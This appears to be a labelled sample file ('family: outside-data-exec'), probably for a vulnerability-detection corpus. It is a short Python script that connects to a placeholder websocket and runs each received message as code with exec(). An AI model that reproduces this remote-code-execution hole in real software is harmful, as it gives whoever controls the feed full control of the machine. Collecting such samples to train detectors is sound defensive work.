# family: outside-data-exec
# a websocket message is run as Python code
import asyncio

import websockets


async def main():
    async with websockets.connect("wss://ws.example.invalid/feed") as ws:
        async for message in ws:
            exec(message)


asyncio.run(main())
